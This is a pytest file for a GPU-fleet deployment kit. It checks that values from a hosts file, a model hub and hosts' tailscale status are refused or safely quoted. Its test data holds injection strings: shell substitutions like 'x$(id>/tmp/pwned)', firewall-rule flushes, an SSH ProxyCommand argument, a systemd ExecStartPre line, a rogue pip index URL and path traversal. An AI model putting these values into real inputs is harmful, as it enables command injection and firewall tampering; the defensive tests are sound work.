"""Every value that crosses from a box, the hub or the hosts file into a rendered file or a command
is parsed to its type or refused: newlines, quotes, `$( )`, spaces and oversize values included
(laguna_kit/knobs/shapes.py, fleet.tailnet_addresses, hub.checkpoint, boxtools/names.py)."""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from pyinfra.api import OperationError
from pyinfra.api.exceptions import DeployError

from laguna_kit.boxtools import names
from laguna_kit.boxtools.fetch.errors import FetchError
from laguna_kit.boxtools.fetch.run import sync
from laguna_kit.domain import fleet, hub, profiles
from laguna_kit.knobs import declared
from laguna_kit.knobs.check import problem, refuse_bad
from laguna_kit.knobs.declared import PER_RUN
from laguna_kit.knobs.hostsfile import HostsFileError, load

from .fixtures import HERE, operation_output

DEFAULTS = declared.defaults()
HOSTILE = {
    "newline": "x\nflush chain inet laguna_kit input",
    "quote": "x' ; id #",
    "command": "x$(id>/tmp/pwned)",
    "space": "x y",
    "oversize": "x" * 5000,
}
# Control-machine paths and flags that go into the unit quoted (systemd_quote): any printable text
# is theirs, a newline or oversize never.
FREE_TEXT = {
    "checkpoint_mirror",
    "router_api_keys_file",
    "vllm_common_args",
    "vllm_extra_args",
    "container_env",
    "container_network_env",
    "container_extra_env",
}

# A systemd calendar event has spaces ("Sun *-*-* 04:00:00"); systemd-analyze judges it on the box.
SPACED = {"checkpoint_scrub_schedule"}


def hosts_file(tmp_path, data_line: str):
    p = tmp_path / "hosts.toml"
    p.write_text(f'[[hosts]]\nname = "gpu-1"\naddress = "192.0.2.1"\n[hosts.data]\n{data_line}\n')
    return p


def toml_value(value):
    return json.dumps(value)  # TOML basic strings and arrays of them are JSON's


def test_every_knob_has_a_type_and_every_default_has_it():
    # one declaration per knob: its value and its shape together (group_data/all.py)
    assert set(declared.declared()) == set(DEFAULTS) and all(
        callable(k.shape) for k in declared.declared().values()
    )
    assert set(PER_RUN) == {"rollback_to", "log_lines", "replica"}
    assert problem("replica", 9) and problem("replica", "2; id") and not problem("replica", 2)
    for name, value in DEFAULTS.items():
        assert problem(name, value) is None, (name, value)


STRING_KNOBS = sorted(k for k, v in DEFAULTS.items() if isinstance(v, str))


@pytest.mark.parametrize("knob", STRING_KNOBS)
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_text_in_a_string_knob_is_refused_when_the_hosts_file_is_read(tmp_path, knob, kind):
    value = HOSTILE[kind]
    if knob in SPACED and kind == "space":
        assert problem(knob, value) is None  # systemd's own check on the box: tasks/scrub.py
        return
    if knob in FREE_TEXT and kind not in ("newline", "oversize"):
        assert problem(knob, value) is None  # quoted wherever it goes: see below
        return
    with pytest.raises(HostsFileError, match=f"knob {knob}"):
        load(hosts_file(tmp_path, f"{knob} = {toml_value(value)}"))


@pytest.mark.parametrize(
    "knob, value",
    [
        ("tailscale_tags", ["tag:gpu", "tag:x --accept-routes"]),
        ("tailscale_tags", ["tag:$(id)"]),
        ("docker_group_users", ["alice; id"]),
        ("box_venv_packages", ["huggingface_hub==2.4.0 --index-url http://evil"]),
        ("firewall_open_ports", ["tcp/22\nflush ruleset"]),
        ("container_env", {"A B": "1"}),
        ("container_extra_env", {"X": "1\nExecStartPre=/bin/sh -c id"}),
        ("vllm_extra_args", ["--x\n[Service]"]),
        ("api_port", 0),
        ("router_port", 70000),
    ],
)
def test_hostile_items_in_lists_tables_and_numbers_are_refused(tmp_path, knob, value):
    line = f"{knob} = {toml_value(value)}" if not isinstance(value, dict) else None
    if line is None:  # an inline table
        inner = ", ".join(f"{json.dumps(k)} = {json.dumps(v)}" for k, v in value.items())
        line = f"{knob} = {{ {inner} }}"
    with pytest.raises(HostsFileError, match=f"knob {knob}"):
        load(hosts_file(tmp_path, line))


def test_a_hostile_serving_profile_is_refused():
    assert problem("serving_profiles", {"champion; id": {"max_model_len": 1}})
    assert problem("serving_profiles", {"champion": {"max_model_len": "1 --x"}})


def test_a_kit_dir_with_a_space_is_refused_so_the_drain_test_cannot_fail_open(tmp_path):
    # `[ -e /opt/my kit/router-drain ]` is an error, so the agent answered "ready" while drained
    with pytest.raises(HostsFileError, match="knob kit_dir"):
        load(hosts_file(tmp_path, 'kit_dir = "/opt/my kit"'))
    for bad in ("opt/laguna", "/opt/../etc", "/opt//x", "/opt/x/"):
        assert problem("kit_dir", bad), bad


@pytest.mark.parametrize(
    "field, value",
    [
        ("name", "router\nadd element inet laguna_kit fleet_router_v4 { 0.0.0.0/0 }"),
        ("name", "gpu 1"),
        ("address", "192.0.2.1 -oProxyCommand=id"),
        ("user", "root$(id)"),
        ("sudo_user", "root;id"),
        ("key", "~/.ssh/id\n"),
    ],
)
def test_hostile_connection_fields_are_refused(tmp_path, field, value):
    p = tmp_path / "hosts.toml"
    entry = {"name": "gpu-1", "address": "192.0.2.1", field: value}
    p.write_text("[[hosts]]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in entry.items()))
    with pytest.raises(HostsFileError, match=field):
        load(p)


class FakeData(dict):
    def get(self, key, default=None):
        return super().get(key, default)


class FakeHost:
    def __init__(self, **data):
        self.name = "gpu-1"
        self.data = FakeData(DEFAULTS, **data)


def test_data_from_the_command_line_is_checked_like_the_hosts_file():
    refuse_bad(FakeHost())  # the defaults pass
    with pytest.raises(DeployError, match="knob router_session_header"):
        refuse_bad(FakeHost(router_session_header="X-Id\n    stats socket /tmp/a"))
    with pytest.raises(DeployError, match="knob tailscale_hostname"):
        refuse_bad(FakeHost(tailscale_hostname="box --accept-routes"))
    with pytest.raises(DeployError, match="knob rollback_to"):
        refuse_bad(FakeHost(rollback_to="2; id"))


def test_free_text_reaches_the_unit_quoted_word_for_word():
    knobs = dict(
        DEFAULTS,
        vllm_extra_args=["--x", HOSTILE["quote"], HOSTILE["command"], HOSTILE["space"]],
        container_extra_env={"X": "a b $(id) 'q' 100%"},
    )
    spec, unit = profiles.render_release(knobs, None)
    exec_start = unit.split("ExecStart=", 1)[1].split("\nExecStop=", 1)[0]
    words = systemd_words(exec_start)
    docker = words.index("--") + 1  # after the box tool that names the GPU device nodes
    assert words[docker:] == ["/usr/bin/docker", *spec["argv"][1:]]


def systemd_words(text: str) -> list[str]:
    """ExecStart='s words as systemd splits them (systemd.syntax(7): quotes with C escapes inside,
    continuation lines, %% and $$ for a literal % and $)."""
    text = text.replace("\\\n", " ").replace("%%", "%").replace("$$", "$")
    words, word, i, quote, started = [], "", 0, None, False
    while i < len(text):
        c = text[i]
        if quote:
            if c == "\\":
                word, i = word + text[i + 1], i + 2
                continue
            if c == quote:
                quote = None
            else:
                word += c
        elif c in "'\"":
            quote, started = c, True
        elif c.isspace():
            if started or word:
                words.append(word)
            word, started = "", False
        else:
            word += c
        i += 1
    if started or word:
        words.append(word)
    return words


# --- what a box says: its tailnet addresses ----------------------------------------------------


@pytest.mark.parametrize(
    "ips",
    [
        ["100.90.1.2\nflush chain inet laguna_kit input"],
        ["100.90.1.2 }; flush ruleset; add element inet laguna_kit fleet_router_v4 { 1.2.3.4"],
        ["192.0.2.7"],  # an address, but off the tailnet
        ["fd00::1"],
        ["$(id)"],
        [12345],
        "100.90.1.2",  # not a list
    ],
)
def test_a_tailnet_address_that_is_not_one_is_refused_naming_the_host(ips):
    with pytest.raises(OperationError, match="^router: "):
        fleet.tailnet_addresses({"Self": {"TailscaleIPs": ips}}, "router")


def test_tailnet_addresses_are_parsed_and_canonical():
    got = fleet.tailnet_addresses(
        {"Self": {"TailscaleIPs": ["FD7A:115C:A1E0::90:1", "100.90.1.2", "100.90.1.2"]}}, "b"
    )
    assert got == ["100.90.1.2", "fd7a:115c:a1e0::90:1"]


def case(name):
    return json.loads((HERE / "operations" / name).read_text())


def test_a_router_answering_a_hostile_address_writes_nothing_to_the_boxes():
    doc = case("firewall.fleet_peers_allowed/router-on-the-tailnet-opens-the-api-to-it.json")
    doc["inventory"][-1]["facts"]["network.TailscaleStatus"]["Self"]["TailscaleIPs"] = [
        "100.90.9.2 }\nflush chain inet laguna_kit input\nadd element inet laguna_kit x { 1"
    ]
    with pytest.raises(OperationError, match="router: its tailscale status gave"):
        operation_output("firewall.fleet_peers_allowed", doc)


def test_a_box_answering_a_hostile_address_writes_nothing_to_the_router(monkeypatch):
    doc = case("router.router_configured/first-deploy-writes-and-checks-its-files.json")
    monkeypatch.setenv("LAGUNA_API_KEYS", doc["env"]["LAGUNA_API_KEYS"])
    doc["inventory"][0]["facts"]["network.TailscaleStatus"]["Self"]["TailscaleIPs"] = [
        "100.90.1.2:8080\nglobal\n    external-check"
    ]
    with pytest.raises(OperationError, match="gpu-1: its tailscale status gave"):
        operation_output("router.router_configured", doc)


# --- what the hub says: its commit and its file names -------------------------------------------


class Hub(BaseHTTPRequestHandler):
    answer: dict = {}

    def log_message(self, *a):
        pass

    def do_GET(self):
        body = json.dumps(self.answer).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def ask_hub(answer: dict, revision: str):
    handler = type("H", (Hub,), {"answer": answer})
    srv = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        endpoint = f"http://127.0.0.1:{srv.server_address[1]}"
        hub.checkpoint.cache_clear()
        return hub.checkpoint(endpoint, "poolside/Laguna-S-2.1-INT4", revision, "NO_SUCH_VAR")
    finally:
        srv.shutdown()


def test_an_unpinned_revision_answered_with_no_commit_is_refused():
    answer = {"id": "poolside/Laguna-S-2.1-INT4", "sha": "x$(id>/tmp/pwned)", "siblings": []}
    with pytest.raises(hub.HubError, match="not a 40-hex commit"):
        ask_hub(answer, "main")


@pytest.mark.parametrize(
    "name",
    [".laguna-verified.json", ".laguna-partial/model-1.safetensors", ".laguna-quarantine/x"],
)
def test_repository_files_named_like_the_kits_records_are_refused(name):
    answer = {
        "id": "poolside/Laguna-S-2.1-INT4",
        "sha": "a" * 40,
        "siblings": [{"rfilename": name, "size": 2, "blobId": "b" * 40}],
    }
    with pytest.raises(hub.HubError, match="kit's own records"):
        ask_hub(answer, "main")
    with pytest.raises(names.UnsafeName):  # the box tools' own check, the same rule
        names.safe_name(name)


def test_the_box_fetch_refuses_a_manifest_whose_revision_is_no_commit(tmp_path):
    manifest = tmp_path / "m.json"
    manifest.write_text(json.dumps({"revision": "../../etc", "files": []}))
    args = type("A", (), {"manifest": str(manifest), "repo": "poolside/x", "dest": str(tmp_path)})
    with pytest.raises(FetchError, match="is not a commit"):
        sync(args)


# --- the deploy lock's holder -----------------------------------------------------------------


def test_two_runs_with_the_same_user_host_and_pid_hold_different_locks(monkeypatch):
    import importlib
    import os

    from laguna_kit.domain import box_commands

    monkeypatch.setattr(os, "getpid", lambda: 4242)
    one = importlib.reload(box_commands).LOCK_HOLDER
    two = importlib.reload(box_commands).LOCK_HOLDER
    monkeypatch.undo()
    importlib.reload(box_commands)
    assert one != two and "pid 4242" in one and "pid 4242" in two
